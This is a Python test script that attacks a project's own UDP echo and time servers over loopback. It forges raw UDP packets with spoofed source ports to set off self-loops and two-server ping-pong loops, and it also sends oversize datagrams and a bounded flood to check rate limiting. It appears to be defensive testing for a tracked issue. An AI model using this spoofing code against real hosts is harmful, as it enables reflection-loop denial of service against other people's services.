#!/usr/bin/env python3
"""UDP attacks on `socketlab serve --udp` (issue 11, finding 1), loopback only.

Usage: sudo python3 scripts/attack_udp.py ./socketlab

Each server runs in its own process; this script is the attacker. Spoofed
datagrams need a raw socket (root): they are written to 127.0.0.1 only.
Every attack is bounded in count and time.
"""
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

BIN = sys.argv[1] if len(sys.argv) > 1 else "./socketlab"
HZ = os.sysconf("SC_CLK_TCK")


def free_port():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Server:
    def __init__(self, demo):
        self.port = free_port()
        self.log = tempfile.NamedTemporaryFile(prefix="socketlab-", suffix=".log", delete=False)
        self.proc = subprocess.Popen(
            [BIN, "serve", "--demo", demo, "--udp", "--addr", "127.0.0.1:%d" % self.port],
            stdout=self.log, stderr=subprocess.STDOUT)
        deadline = time.time() + 10
        while "listening on" not in self.text():
            if time.time() > deadline:
                raise SystemExit("server did not start")
            time.sleep(0.02)

    def text(self):
        with open(self.log.name, errors="replace") as f:
            return f.read()

    def cpu(self):
        with open("/proc/%d/stat" % self.proc.pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / HZ

    def count(self, word):
        return sum(1 for line in self.text().splitlines() if word in line)

    def stop(self):
        t = time.time()
        self.proc.send_signal(signal.SIGINT)
        try:
            self.proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
            return "did not exit within 5 s (killed)"
        os.unlink(self.log.name)
        return "exited %d after %.2f s" % (self.proc.returncode, time.time() - t)


def spoof(src_port, dst_port, payload):
    """One UDP datagram 127.0.0.1:src_port -> 127.0.0.1:dst_port."""
    lo = socket.inet_aton("127.0.0.1")
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, lo, lo)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(ip + udp, ("127.0.0.1", 0))
    s.close()


def self_loop(demo):
    srv = Server(demo)
    cpu0 = srv.cpu()
    spoof(srv.port, srv.port, b"hello\n")
    time.sleep(3)
    print("self-sourced datagram, %s: %.2f CPU-s in 3 s, %d received, %d log lines, %s"
          % (demo, srv.cpu() - cpu0, srv.count(" received "), len(srv.text().splitlines()), srv.stop()))


def pair(demo):
    a, b = Server(demo), Server(demo)
    cpu0 = a.cpu() + b.cpu()
    spoof(a.port, b.port, b"hello\n")  # "from A" to B
    time.sleep(3)
    bounces = a.count(" received ") + b.count(" received ")
    limited = a.count("until it slows down") + b.count("until it slows down")
    print("two %s servers pointed at each other: %d datagrams in 3 s, %.2f CPU-s, %d rate-limit log lines; %s / %s"
          % (demo, bounces, a.cpu() + b.cpu() - cpu0, limited, a.stop(), b.stop()))


def oversize():
    srv = Server("time")
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(2)
    for n in (65480, 65481, 65500):
        c.sendto(b"x" * n, ("127.0.0.1", srv.port))
        try:
            reply = c.recv(70000)
            print("time request of %d B: reply of %d B: %r" % (n, len(reply), reply[:40]))
        except socket.timeout:
            print("time request of %d B: no reply in 2 s" % n)
    c.close()
    print("  server:", srv.stop())


def flood():
    srv = Server("echo")
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    c.bind(("127.0.0.1", 0))
    got = [0]
    stop = threading.Event()

    def reader():
        c.settimeout(0.2)
        while not stop.is_set():
            try:
                c.recv(100)
                got[0] += 1
            except socket.timeout:
                pass

    threading.Thread(target=reader, daemon=True).start()
    sent, t0 = 0, time.time()
    while sent < 20000 and time.time() - t0 < 5:
        c.sendto(b"f\n", ("127.0.0.1", srv.port))
        sent += 1
        if sent % 200 == 0:
            time.sleep(0.01)  # about 20,000 a second: the server reads them all
    took = time.time() - t0
    time.sleep(0.5)
    stop.set()
    time.sleep(0.3)
    print("flood of %d datagrams in %.2f s from one source: %d answered, %d rate-limit log lines"
          % (sent, took, got[0], srv.count("until it slows down")))
    time.sleep(1.2)
    c.settimeout(2)
    c.sendto(b"again\n", ("127.0.0.1", srv.port))
    try:
        print("  after 1.2 s quiet: %r" % c.recv(100))
    except socket.timeout:
        print("  after 1.2 s quiet: no reply")
    c.close()
    print("  server:", srv.stop())


if __name__ == "__main__":
    self_loop("echo")
    self_loop("time")
    pair("echo")
    pair("time")
    oversize()
    flood()
